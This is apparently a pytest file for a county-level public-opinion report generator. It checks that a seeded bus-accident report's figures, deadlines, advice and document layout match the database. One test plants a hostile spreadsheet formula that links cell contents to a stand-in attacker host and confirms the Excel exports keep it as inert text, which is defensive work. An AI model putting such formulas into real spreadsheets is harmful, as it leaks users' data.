"""The 舆情专报 of the seeded bus accident, on both engines: spread, timeline, first and peak
moments, engagement, main claims, grade evidence, owner and deadlines with their state, the
responses, and next steps by template; its figures equal the rows in the database."""

from __future__ import annotations

import io
from collections import Counter
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from pipeline.queries.event_report import UnknownEvent, event_figures
from pipeline.reports.docx import render_docx
from pipeline.reports.service import Spec, build
from pipeline.reports.xlsx import render_xlsx
from pipeline.rules.periods import Period
from pipeline.runtime import Runtime
from pipeline.storage.models import Event, Post
from pipeline.vocabulary import PLATFORM_NAMES
from tests.pipeline.reports.conftest import body, headings, sheets, text_of, word
from tests.pipeline.reports.seed import DAY, NOW, at


def test_special_report_figures_equal_the_database(world: tuple[Runtime, Any]) -> None:
    rt, events = world
    bus = events["bus"]
    with rt.session() as s:
        posts = list(s.scalars(select(Post).where(Post.event_id == bus.id)))
    fig = rt.read(event_figures, bus.id, NOW)
    assert fig.posts == len(posts) == 6 and fig.first_seen_at == min(p.first_seen_at for p in posts)
    assert fig.first_published_at == min(p.published_at for p in posts if p.published_at)
    # drawn by publication time (the seed publishes each post 30 minutes before it is detected)
    hourly = Counter(p.published_at.replace(minute=0) for p in posts)
    assert dict(fig.timeline) == {h: hourly.get(h, 0) for h in dict(fig.timeline)} and sum(dict(fig.timeline).values()) == 6
    assert len(fig.timeline) == 8 and fig.peak == (at(27, 3), 2)   # 03:00–10:00, the earliest of the busiest hours
    doc = build(rt, Spec("event", event_id=bus.id, grade="重大"), NOW)
    book = sheets(render_xlsx(doc))
    spread = {r[0]: r[2:] for r in body(book["传播平台"])}   # 平台, 首次出现, then the counts
    for code in {p.platform for p in posts}:
        mine = [p for p in posts if p.platform == code]
        assert spread[PLATFORM_NAMES[code]] == (len(mine), sum(p.reposts or 0 for p in mine),
                                                sum(p.comments or 0 for p in mine), sum(p.likes or 0 for p in mine),
                                                sum(1 for p in mine if None in (p.reposts, p.comments, p.likes)))
    states = {(r[0], r[1]): r[5] for r in body(book["回应时限"])}
    assert states == {("崇头镇", "发布权威信息"): "按时完成", ("崇头镇", "新闻发布会"): "超时完成"}
    assert [(r[0], r[1]) for r in body(book["已有回应"])] == [("崇头镇", "发布权威信息"), ("崇头镇", "新闻发布会")]
    assert fig.first_post is not None and fig.first_post.published_at == at(27, 2, 40)    # 首发
    assert [(pf, n) for pf, _, n in fig.platform_firsts] == [("weibo", 5), ("news", 1)]
    tree = [(r[0].strip("　└ "), r[2]) for r in body(book["转发路径"])]
    assert ("丽水身边事", 0) in tree and fig.spread.reposts == 1    # the //@ chain of the repost, rebuilt
    spreaders = body(book["关键传播账号"])
    assert spreaders[0][4] == max(r[4] for r in spreaders)      # the widest reach first
    views = body(book["网民观点"])
    assert views and all(0 < r[4] <= 1 for r in views) and "转发微博" not in "".join(str(r[1]) for r in views)


def test_special_report_reads_as_a_document_with_advice(world: tuple[Runtime, Any]) -> None:
    rt, events = world
    doc = build(rt, Spec("event", event_id=events["bus"].id, grade="重大"), NOW)
    document = word(render_docx(doc))
    assert headings(document) == ["一、事件概况", "二、研判", "三、传播分析", "四、网民观点", "五、代表性信息",
                                  "六、等级与依据", "七、办理情况", "八、处置建议"]
    text = text_of(document)
    assert "云和县政务舆情专报" in text and "关于“崇头镇旅游大巴侧翻 伤者送医" in text
    assert "定级依据1：文本模型判定为重大" in text and "由崇头镇牵头办理，时限情况：超时完成" in doc.summary
    assert "各时限节点已完成，请崇头镇持续发布处置进展" in text      # RULES.md §4 持续发布
    assert "县应急管理局配合" in text                              # 突发事件
    assert "事件期间有1处信息源采集中断" in doc.summary and doc.notices
    assert len(document.inline_shapes) == 2                      # the timeline chart and the repost tree


def test_advice_follows_the_open_milestones_rumour_and_return(world: tuple[Runtime, Any]) -> None:
    rt, events = world
    road = build(rt, Spec("event", event_id=events["road"].id), NOW)
    assert any("请浮云街道于11月29日09:00前完成“予以回应”" in b.text for s in road.sections for b in s.blocks
               if hasattr(b, "lead") and b.lead)
    old = text_of(word(render_docx(build(rt, Spec("event", event_id=events["old"].id), NOW))))
    assert "“予以回应”已于11月27日10:00超时" in old and "县住房和城乡建设局已退回本事件，请县政府办公室、县委宣传部尽快改派" in old
    rumour = text_of(word(render_docx(build(rt, Spec("event", event_id=events["rumor"].id), NOW))))
    assert "线索已移交县公安局、县委网信办" in rumour


def test_unknown_event_is_refused(world: tuple[Runtime, Any]) -> None:
    rt, _ = world
    with pytest.raises(UnknownEvent, match="没有编号为 999 的事件"):
        build(rt, Spec("event", event_id=999), NOW)


def test_a_crawled_formula_title_stays_text_in_the_special_and_daily_excel(world: tuple[Runtime, Any]) -> None:
    rt, events = world
    hostile = '=HYPERLINK("http://evil.example/?leak="&B3,"崇头镇旅游大巴侧翻")'
    with rt.session() as s:
        bus = s.get(Event, events["bus"].id)
        assert bus is not None
        bus.title = hostile
        for post in s.scalars(select(Post).where(Post.event_id == events["bus"].id)):
            post.title = hostile
    for spec in (Spec("event", event_id=events["bus"].id, grade="重大"), Spec("daily", Period.containing("daily", DAY.date()))):
        book = openpyxl.load_workbook(io.BytesIO(render_xlsx(build(rt, spec, NOW))))
        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
        assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"], spec.kind
        # the headline drops the link but keeps the formula-like start: it stays a string cell
        assert any(isinstance(c.value, str) and c.value.startswith('=HYPERLINK(') for c in cells), spec.kind
